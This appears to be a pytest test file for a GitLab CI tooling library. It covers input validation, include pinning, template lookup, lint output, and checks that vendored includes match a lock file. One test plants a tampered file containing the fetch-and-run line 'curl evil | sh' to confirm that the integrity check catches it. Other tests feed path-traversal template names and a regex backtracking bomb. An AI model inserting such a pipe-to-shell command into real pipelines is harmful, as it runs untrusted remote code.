"""Includes of other projects read offline: GitLab's input checks, pinning, the template folder,
the vendored folder and its lock file, and the shared corpus resolved with its templates."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from gitlabci_dsl.cli import app
from gitlabci_dsl.errors import LoadError
from gitlabci_dsl.evaluate.pipeline import plan, preset
from gitlabci_dsl.gitlab.includes import Include, entries, pin, resolve
from gitlabci_dsl.gitlab.inputs import problems
from gitlabci_dsl.gitlab.reader import load
from gitlabci_dsl.lint import lint_text
from gitlabci_dsl.sources import LOCK_FILE, Templates, Vendored, digest

SPEC = {
    "stage": {"default": "test"},
    "env": {"options": ["dev", "prod"]},
    "replicas": {"type": "number", "default": 1},
    "push": {"type": "boolean", "default": True},
    "tags": {"type": "array", "default": []},
    "version": {"regex": r"^v\d+\.\d+$", "default": "v1.0"},
}


def rules(given: dict[str, Any] | None, spec: dict[str, Any] | None = SPEC) -> list[str]:
    return [p.rule for p in problems(spec, given)]


def test_inputs_that_match_the_spec_have_no_problem() -> None:
    assert (
        rules({"env": "dev", "replicas": 3, "push": False, "tags": ["a"], "version": "v2.1"}) == []
    )


@pytest.mark.parametrize(
    ("given", "rule", "says"),
    [
        ({"env": "dev", "stge": "x"}, "input-undeclared", "did you mean 'stage'?"),
        ({}, "input-missing", "add inputs: {env: ...}"),
        ({"env": "staging"}, "input-invalid", "use one of 'dev', 'prod'"),
        ({"env": "dev", "replicas": "3"}, "input-invalid", "'3' is not a number"),
        ({"env": "dev", "replicas": True}, "input-invalid", "true is not a number"),
        ({"env": "dev", "push": "yes"}, "input-invalid", "'yes' is not a boolean"),
        ({"env": "dev", "tags": "a"}, "input-invalid", "'a' is not a array"),
        ({"env": "dev", "version": "1.0"}, "input-invalid", "does not match its regex"),
    ],
)
def test_gitlab_refuses_inputs_that_do_not_match_the_spec(
    given: dict[str, Any], rule: str, says: str
) -> None:
    (problem,) = problems(SPEC, given)
    assert problem.rule == rule
    assert says in problem.message


def test_inputs_given_to_a_file_without_a_spec_are_refused() -> None:
    assert rules({"stage": "x"}, spec=None) == ["input-undeclared"]
    assert rules(None, spec=None) == []


def test_an_input_regex_is_re2_and_may_be_written_between_slashes() -> None:
    spec = {"v": {"regex": "/^v[0-9]+$/"}}
    assert rules({"v": "v1"}, spec) == []
    assert rules({"v": "x1"}, spec) == ["input-invalid"]
    # A backtracking bomb under `re` is linear under RE2: the check returns at once.
    assert rules({"v": "a" * 5000 + "!"}, {"v": {"regex": "^(a+)+$"}}) == ["input-invalid"]


def test_input_rules_leave_options_to_the_pipeline() -> None:
    spec = {"env": {"rules": [{"if": "$X", "options": ["a"], "default": "a"}]}}
    assert rules({}, spec) == []
    assert rules({"env": "b"}, spec) == []


def one(entry: Any) -> Include:
    (include,) = entries([entry])
    return include


@pytest.mark.parametrize(
    ("entry", "moves"),
    [
        ({"component": "$CI_SERVER_FQDN/g/c/build@1.2.3"}, False),
        ({"component": "$CI_SERVER_FQDN/g/c/build@v1.2.3-rc.1"}, False),
        ({"component": "$CI_SERVER_FQDN/g/c/build@" + "a" * 40}, False),
        ({"component": "$CI_SERVER_FQDN/g/c/build@$CI_COMMIT_SHA"}, False),
        ({"component": "$CI_SERVER_FQDN/g/c/build@~latest"}, True),
        ({"component": "$CI_SERVER_FQDN/g/c/build@1.2"}, True),
        ({"component": "$CI_SERVER_FQDN/g/c/build@main"}, True),
        ({"component": "$CI_SERVER_FQDN/g/c/build"}, True),
        ({"project": "g/c", "file": "a.yml"}, True),
        ({"project": "g/c", "file": "a.yml", "ref": "main"}, True),
        ({"project": "g/c", "file": "a.yml", "ref": "v2.0"}, False),
        ({"project": "g/c", "file": "a.yml", "ref": "$CI_COMMIT_REF_NAME"}, False),
        ({"template": "Jobs/Build.gitlab-ci.yml"}, False),
        ("https://example.com/ci.yml", False),
    ],
)
def test_what_counts_as_pinned(entry: Any, moves: bool) -> None:
    assert (pin(one(entry)) is not None) is moves


CORPUS_PREFIX = "gitlabhq__gitlabhq__lib__gitlab__ci__templates__"


def test_a_template_folder_may_be_flat_a_copy_or_a_checkout(tmp_path: Path) -> None:
    body = "job:\n  script: a\n"
    (tmp_path / "flat").mkdir()
    (tmp_path / "flat" / f"{CORPUS_PREFIX}Jobs__Build.gitlab-ci.yml").write_text(body)
    (tmp_path / "copy" / "Jobs").mkdir(parents=True)
    (tmp_path / "copy" / "Jobs" / "Build.gitlab-ci.yml").write_text(body)
    checkout = tmp_path / "gitlab" / "lib" / "gitlab" / "ci" / "templates" / "Jobs"
    checkout.mkdir(parents=True)
    (checkout / "Build.gitlab-ci.yml").write_text(body)
    include = one({"template": "Jobs/Build.gitlab-ci.yml"})
    for folder in ("flat", "copy", "gitlab"):
        assert Templates(tmp_path / folder).text(include) == body, folder
    assert Templates(tmp_path / "copy").text(one({"template": "Jobs/Test.gitlab-ci.yml"})) is None


def test_a_template_name_cannot_leave_its_folder(tmp_path: Path) -> None:
    (tmp_path / "secret.yml").write_text("job:\n  script: a\n")
    (tmp_path / "templates").mkdir()
    for name in ("../secret.yml", "/../secret.yml", "a/../../secret.yml"):
        assert Templates(tmp_path / "templates").text(one({"template": name})) is None


def vendor(folder: Path, files: dict[str, tuple[str, str]]) -> None:
    """A vendored folder: ``{key: (path, text)}`` and its lock file."""
    folder.mkdir(parents=True, exist_ok=True)
    locked = []
    for key, (path, text) in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text, encoding="utf-8")
        locked.append(
            {"key": key, "path": path, "ref": "1.0.0", "sha": "b" * 40, "digest": digest(text)}
        )
    (folder / LOCK_FILE).write_text(json.dumps({"version": 1, "includes": locked}))


COMPONENT = (
    "spec:\n  inputs:\n    stage:\n      default: test\n    image:\n---\n"
    "build:\n  stage: $[[ inputs.stage ]]\n  image: $[[ inputs.image ]]\n  script: make\n"
)


def test_a_vendored_component_is_merged_with_its_inputs(tmp_path: Path) -> None:
    vendor(
        tmp_path / ".gitlab" / "vendor",
        {"component:gitlab.com/g/c/build@1.0.0": ("component/build.yml", COMPONENT)},
    )
    data = {"include": [{"component": "gitlab.com/g/c/build@1.0.0", "inputs": {"image": "alp:3"}}]}
    found = resolve(data, tmp_path, source=Vendored(tmp_path / ".gitlab" / "vendor"))
    assert not found.open
    assert found.config["build"] == {"stage": "test", "image": "alp:3", "script": "make"}
    assert found.inputs == ()


def test_a_vendored_file_that_differs_from_its_lock_is_an_error(tmp_path: Path) -> None:
    folder = tmp_path / "vendor"
    vendor(folder, {"template:Jobs/Build.gitlab-ci.yml": ("t/build.yml", "job:\n  script: a\n")})
    (folder / "t" / "build.yml").write_text("job:\n  script: curl evil | sh\n")
    with pytest.raises(LoadError, match=r"differs from the sha256:\w+ its lock file records"):
        Vendored(folder).text(one({"template": "Jobs/Build.gitlab-ci.yml"}))


@pytest.mark.parametrize(
    "text", ['{"includes": [{"key": 1}]}', '{"includes": "x"}', "[" * 100_000, "not json"]
)
def test_a_lock_file_that_is_not_ours_is_an_error(tmp_path: Path, text: str) -> None:
    (tmp_path / LOCK_FILE).write_text(text)
    with pytest.raises(LoadError, match="not a lock file gitlabci-dsl vendor wrote"):
        Vendored(tmp_path)


def test_a_project_include_of_several_files_reads_each(tmp_path: Path) -> None:
    vendor(
        tmp_path,
        {
            "project:g/c:a.yml@v1.0.0": ("p/a.yml", "a:\n  script: a\n"),
            "project:g/c:b.yml@v1.0.0": ("p/b.yml", "b:\n  script: b\n"),
        },
    )
    data = {"include": {"project": "g/c", "ref": "v1.0.0", "file": ["a.yml", "/b.yml"]}}
    found = resolve(data, None, source=Vendored(tmp_path))
    assert not found.open
    assert set(found.config) == {"a", "b"}


def cli(root: Path, *args: str) -> Any:
    (root / "pyproject.toml").write_text("[tool.gitlabci-dsl]\n")
    import os

    previous = Path.cwd()
    os.chdir(root)
    try:
        return CliRunner().invoke(app, list(args))
    finally:
        os.chdir(previous)


def test_lint_checks_the_inputs_of_a_vendored_component(tmp_path: Path) -> None:
    vendor(
        tmp_path / ".gitlab" / "vendor",
        {"component:gitlab.com/g/c/build@1.0.0": ("component/build.yml", COMPONENT)},
    )
    (tmp_path / ".gitlab-ci.yml").write_text(
        "include:\n  - component: gitlab.com/g/c/build@1.0.0\n    inputs:\n      stag: build\n"
    )
    result = cli(tmp_path, "lint", "--format", "json")
    found = {(f["rule"], f["line"]) for f in json.loads(result.stdout)}
    assert ("input-undeclared", 4) in found
    assert ("input-missing", 3) in found  # at its inputs: where to add it
    assert "include-unresolved" not in {rule for rule, _ in found}
    assert result.exit_code == 1


def test_explain_follows_a_template_with_include_rules(tmp_path: Path) -> None:
    templates = tmp_path / "t"
    templates.mkdir()
    (templates / "Build.gitlab-ci.yml").write_text("build:\n  script: make\n")
    text = (
        "include:\n  - template: Build.gitlab-ci.yml\n    rules:\n      - if: $CI_COMMIT_TAG\n"
        "test:\n  script: pytest\n"
    )
    source = Templates(templates)
    on_tag = plan(text, preset("tag:v1.0.0"), source=source)
    on_branch = plan(text, preset("branch:main"), source=source)
    assert [j.name for j in on_tag.jobs] == ["build", "test"]
    assert [j.name for j in on_branch.jobs] == ["test"]
    assert not any("not resolved" in note for note in on_tag.notes)


def test_lint_of_the_corpus_resolves_every_template_the_corpus_holds(
    corpus: list[Path],
) -> None:
    """With the corpus as the template folder, a template include is unresolved only when the
    corpus does not hold that template (derived from the folder, not a count)."""
    folder = corpus[0].parent
    source = Templates(folder)
    held = {p.name for p in folder.iterdir()}
    checked = 0
    for path in corpus:
        data = load(path.read_text(encoding="utf-8"))[-1].data
        if not isinstance(data, dict):
            continue
        found = resolve(data, None, source=source)
        for include in found.unresolved:
            if include.kind == "template" and include.location is not None:
                flat = CORPUS_PREFIX + include.location.replace("/", "__")
                assert flat not in held, (path.name, include.location)
        listed = entries(data.get("include"))
        if listed and all(e.kind == "template" for e in listed) and not found.open:
            checked += 1
            findings = lint_text(path.read_text(encoding="utf-8"), path.name, source=source)
            assert "include-unresolved" not in {f.rule for f in findings}, path.name
    assert checked > 0


def test_import_reads_the_templates_a_file_includes(tmp_path: Path) -> None:
    """With the template read, a job extending a name neither file defines makes the file a
    part of a pipeline (Pipeline(included=True)); without it nothing can be said."""
    templates = tmp_path / "t"
    templates.mkdir()
    (templates / "Base.gitlab-ci.yml").write_text(".base:\n  script: make\n")
    (tmp_path / "ci.yml").write_text(
        "include:\n  - template: Base.gitlab-ci.yml\njob:\n  extends: .bse\n"
    )
    (tmp_path / "pyproject.toml").write_text("[tool.gitlabci-dsl]\n")
    previous = Path.cwd()
    os.chdir(tmp_path)
    try:
        offline = CliRunner().invoke(app, ["import", "ci.yml"])
        read = CliRunner().invoke(app, ["import", "ci.yml", "--templates", str(templates)])
    finally:
        os.chdir(previous)
    assert offline.exit_code == 0
    assert read.exit_code == 0
    assert "included=True" not in offline.stdout
    assert "included=True" in read.stdout
    assert ".bse" in read.output  # the warning names what is missing


def test_a_local_include_of_another_project_s_file_is_that_project_s(tmp_path: Path) -> None:
    """GitLab reads the `local` includes of a project include's file from that project at the
    same ref; of a template, they cannot be read."""
    vendor(
        tmp_path,
        {
            "project:g/c:a.yml@v1.0.0": ("p/a.yml", "include: [{local: b.yml}]\na:\n  script: a\n"),
            "project:g/c:b.yml@v1.0.0": ("p/b.yml", "b:\n  script: b\n"),
            "template:T.yml": ("t.yml", "include: [b.yml]\nt:\n  script: t\n"),
        },
    )
    found = resolve(
        {"include": {"project": "g/c", "ref": "v1.0.0", "file": "a.yml"}},
        None,
        source=Vendored(tmp_path),
    )
    assert not found.open
    assert set(found.config) == {"a", "b"}
    from_template = resolve({"include": {"template": "T.yml"}}, None, source=Vendored(tmp_path))
    assert from_template.open
    assert [u.location for u in from_template.unresolved] == ["b.yml"]
